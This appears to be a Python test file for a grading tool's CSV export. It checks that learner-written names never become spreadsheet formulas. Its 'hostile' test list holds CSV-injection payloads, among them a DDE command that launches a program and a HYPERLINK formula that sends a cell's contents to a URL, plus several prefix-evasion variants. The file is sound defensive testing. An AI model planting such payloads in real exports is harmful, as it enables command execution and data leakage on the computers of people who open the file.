"""Grades as a table: the header is fixed, and nothing that a learner wrote is a formula in a spreadsheet."""

import csv
import io
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from grader.report import Report
from grader.writers.csv import HEADER, cell, lines, write

Told = Callable[[str], list[Report]]
unhurried = settings(deadline=None)  # the machine may be busy
anything = st.text(st.characters(codec="utf-16", exclude_categories=()), max_size=40)


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_the_header_is_the_published_one() -> None:
    assert ",".join(HEADER) == "learner,status,killed,needed,score,passed,required_missing,reason"


def test_a_report_is_one_line_below_the_header(kept: dict[str, Report]) -> None:
    assert write(kept["survivors"]).splitlines() == [
        ",".join(HEADER),
        ',failed,8,8,0.8889,false,s01,"8 of 9 faults killed, 8 needed; required and not killed: s01"',
    ]


@pytest.mark.parametrize(
    ("case", "cells"),
    [
        ("passed", ["passed", "9", "8", "1.0", "true", ""]),
        ("just-started", ["failed", "3", "8", "0.3333", "false", "s01 s03 s04"]),
        ("not-allowed", ["invalid", "", "", "", "false", ""]),
        ("course-only", ["passed", "", "", "", "true", ""]),
    ],
)
def test_the_numbers_are_those_of_the_report_and_a_withheld_score_is_empty(
    case: str, cells: list[str], kept: dict[str, Report]
) -> None:
    assert parsed(write(kept[case]))[1][1:-1] == cells


def test_an_error_says_nothing_about_a_learner(told: Told) -> None:
    error = told("the disk is full")[-1]
    assert parsed(write(error))[1][1:-1] == ["error", "", "", "", "", ""]


def test_many_learners_are_many_lines_made_one_by_one(kept: dict[str, Report]) -> None:
    made = lines((name, kept["passed"]) for name in ("Ada", "Grace, Lt.", 'the "Count"'))
    assert next(made) == ",".join(HEADER) + "\n"
    assert [row[0] for row in parsed("".join(made))] == ["Ada", "Grace, Lt.", 'the "Count"']


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://example.org?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "＝1+1",  # fullwidth
        "\u202e=1+1",
        "\x00=1+1",
        "\ufeff=1+1",
        "x;=1+1",
        "x; y\t=1+1",
    ],
)
def test_no_cell_that_a_learner_wrote_is_a_formula(hostile: str, told: Told) -> None:
    for report in told(hostile):
        for row in lines([(hostile, report)]):
            (cells,) = parsed(row)
            assert not [one for one in cells if one.lstrip()[:1] in tuple("=+-@＝＋－＠\t\r\n")]
            outside = "".join(row.split('"')[::2])  # where other separators than the comma may count
            assert ";" not in outside
            assert "\t" not in outside


@unhurried
@given(anything)
@example("=1")
@example('"\n"=1')
def test_whatever_a_learner_is_called_is_one_harmless_cell_on_one_line(told: Told, name: str) -> None:
    _header, line = lines([(name, told("x")[0])])
    assert line.count("\n") == 1
    ((first, *rest),) = parsed(line)
    assert first == cell(name)
    assert len(rest) == len(HEADER) - 1
    assert first[:1] not in {"=", "+", "-", "@"}
    assert "\x1b" not in first


@pytest.mark.parametrize("name", ["Ada Lovelace", "Þóra  Jónsdóttir", "李小龍", "O'Neill", "smith, j."])
def test_an_ordinary_name_stays_as_it_is(name: str) -> None:
    assert cell(name) == name


def test_two_names_that_differ_in_blanks_alone_stay_two() -> None:
    assert cell("Ada  L") != cell("Ada L")
